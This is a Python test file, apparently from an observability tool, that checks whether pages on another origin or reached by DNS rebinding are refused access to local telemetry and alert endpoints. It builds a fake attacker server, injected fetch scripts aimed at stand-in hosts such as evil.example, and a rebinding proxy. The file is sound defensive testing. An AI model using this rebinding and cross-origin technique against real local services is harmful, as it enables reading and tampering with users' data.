"""A page on another origin, in a real browser: it can neither read nor write, not even as a name that now leads here.

DNS rebinding as the browser sees it: ``rebind-<role>.example`` first gives the attacker's page, then is this machine. A
server of the attacker stands for both: it serves the page and passes everything else on, with the ``Host`` that the
browser sends. Pages of ``localhost`` are the control: what they try must work.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from tests.required import missing

from .conftest import Embedded, eventually

READS = {
    "otlp_http": "/metrics",
    "prometheus": "/api/v1/query?query=1",
    "loki": "/loki/api/v1/labels",
    "jaeger": "/api/services",
    "traceql": "/api/search/tags",
    "alerts": "/api/v2/status",
}
SPAN = {"traceId": "ab" * 16, "spanId": "cd" * 8, "name": "x", "startTimeUnixNano": "1754000000000000000"}
PAGE = """<script>
const tries = TRIES;
async function attempt(one) {
  try {
    const answer = await fetch(one.url, one.init);
    return {...one, type: answer.type, status: answer.status, text: (await answer.text()).slice(0, 200)};
  } catch (error) {
    return {...one, error: String(error)};
  }
}
Promise.all(tries.map(attempt)).then(done => fetch("/report", {method: "POST", body: JSON.stringify(done)}));
</script>"""


def writes(service: str) -> dict[str, tuple[str, str]]:
    """Role -> path and body of something that is stored, if it is."""
    resource = {"attributes": [{"key": "service.name", "value": {"stringValue": service}}]}
    spans = {"resourceSpans": [{"resource": resource, "scopeSpans": [{"spans": [SPAN]}]}]}
    alert = [{"labels": {"alertname": service}}]
    return {"otlp_http": ("/v1/traces", json.dumps(spans)), "alerts": ("/api/v2/alerts", json.dumps(alert))}


def attempts(base: dict[str, str], service: str) -> list[dict[str, Any]]:
    """What a page tries on the servers at ``base``: reads, and writes as JSON and as a form may."""
    tries: list[dict[str, Any]] = []
    for role, url in base.items():
        tries.append({"kind": "read", "url": url + READS[role], "init": {}})
        tries.append({"kind": "blind read", "url": url + READS[role], "init": {"mode": "no-cors"}})
        if role in writes(service):
            path, body = writes(service)[role]
            as_json = {"method": "POST", "headers": {"content-type": "application/json"}, "body": body}
            tries.append({"kind": "write", "url": url + path, "init": as_json})
            blind = {"method": "POST", "mode": "no-cors", "body": body}
            tries.append({"kind": "blind write", "url": url + path, "init": blind})
    return tries


Passed = tuple[int, dict[str, str], bytes]


@dataclass
class Attacker:
    """Serves pages and takes their reports by the name under which it is asked; passes everything else on."""

    server: Embedded
    port: int = 0
    reports: dict[str, list[dict[str, Any]]] = field(default_factory=dict)

    def page(self, host: str) -> str:
        if host.startswith("rebind-"):
            role = host.removeprefix("rebind-").removesuffix(".example")
            return PAGE.replace("TRIES", json.dumps(attempts({role: ""}, f"rebound-{role}")))
        frames = "".join(f'<iframe src="http://rebind-{role}.example:{self.port}/page"></iframe>' for role in READS)
        base = {role: f"http://127.0.0.1:{self.server.address(role).rpartition(':')[2]}" for role in READS}
        service = "mine" if host == "localhost" else "evil"
        return PAGE.replace("TRIES", json.dumps(attempts(base, service))) + (frames if host != "localhost" else "")

    def passed_on(self, host: str, method: str, path: str, headers: dict[str, str], body: bytes) -> Passed:
        address, _, port = self.server.address(host.removeprefix("rebind-").removesuffix(".example")).rpartition(":")
        with closing(http.client.HTTPConnection(address, int(port), timeout=20)) as connection:
            connection.request(method, path, body or None, headers)  # with the browser's own Host header
            answer = connection.getresponse()
            kept = {k: v for k, v in answer.getheaders() if k.lower() not in ("content-length", "transfer-encoding")}
            return answer.status, kept, answer.read()


@contextmanager
def attacking(server: Embedded) -> Iterator[Attacker]:
    attacker = Attacker(server)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            host = self.headers.get("Host", "").partition(":")[0]
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            if self.path == "/report":
                attacker.reports[host] = json.loads(body)
                self.reply(200, {}, b"")
            elif self.path == "/page":
                self.reply(200, {"Content-Type": "text/html; charset=utf-8"}, attacker.page(host).encode())
            elif host.startswith("rebind-"):
                self.reply(*attacker.passed_on(host, self.command, self.path, dict(self.headers), body))
            else:
                self.reply(404, {}, b"")

        do_POST = do_OPTIONS = do_GET  # noqa: N815 - the names are the interface

        def reply(self, status: int, headers: dict[str, str], body: bytes) -> None:
            self.send_response(status)
            for name, value in {**headers, "Content-Length": str(len(body))}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    listener = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    attacker.port = listener.server_address[1]
    thread = threading.Thread(target=listener.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield attacker
    finally:
        listener.shutdown()
        thread.join()
        listener.server_close()


@contextmanager
def browser(folder: Path, url: str) -> Iterator[None]:
    """Chromium, without a window, for which every name of ``.example`` is this machine."""
    program = shutil.which("chromium") or missing("chromium", "chromium is not installed")
    command = [program, "--headless=new", "--no-first-run", "--disable-gpu", "--disable-dev-shm-usage", "--no-sandbox"]
    command += [f"--user-data-dir={folder}", "--host-resolver-rules=MAP *.example 127.0.0.1", "--no-proxy-server", url]
    environment = {**os.environ, "HOME": str(folder)}
    with (folder / "output.txt").open("wb") as output:
        process = subprocess.Popen(command, stdout=output, stderr=output, env=environment)
        try:
            yield
        finally:
            process.terminate()
            process.wait(20)


def reported(folder: Path, attacker: Attacker, host: str, names: set[str]) -> dict[str, list[dict[str, Any]]]:
    with browser(folder, f"http://{host}:{attacker.port}/page"):
        eventually(lambda: names <= attacker.reports.keys(), 60.0)
    return {name: attacker.reports[name] for name in names}


def stored(server: Embedded) -> set[str]:
    """Services with spans, and names of alerts."""
    alerts = server.get("alerts", "/api/v2/alerts").json
    return {*server.get("jaeger", "/api/services").json["data"], *(alert["labels"]["alertname"] for alert in alerts)}


def test_a_page_elsewhere_can_neither_read_nor_write(shared: Embedded, tmp_path: Path) -> None:
    refused = shared.own("obsctl_browser_requests_refused_total")
    rebound = {f"rebind-{role}.example" for role in READS}
    with attacking(shared) as attacker:
        done = reported(tmp_path, attacker, "evil.example", {"evil.example", *rebound})
    for one in done["evil.example"]:
        if one["kind"].startswith("blind"):
            assert (one.get("type"), one.get("text")) == ("opaque", "") or "error" in one, one
        else:
            assert "error" in one, one
    for host in rebound:
        for one in done[host]:
            assert one.get("status") in (403, 0, None), one
            assert not one.get("text") or "is not this machine" in one["text"], one
    assert not {name for name in stored(shared) if name.startswith(("evil", "rebound"))}
    assert shared.own("obsctl_browser_requests_refused_total") > refused


def test_a_page_of_this_machine_can(shared: Embedded, tmp_path: Path) -> None:
    with attacking(shared) as attacker:
        done = reported(tmp_path, attacker, "localhost", {"localhost"})["localhost"]
    for one in done:
        if one["kind"] in ("read", "write"):
            assert one.get("status") == 200, one
    eventually(lambda: "mine" in stored(shared))
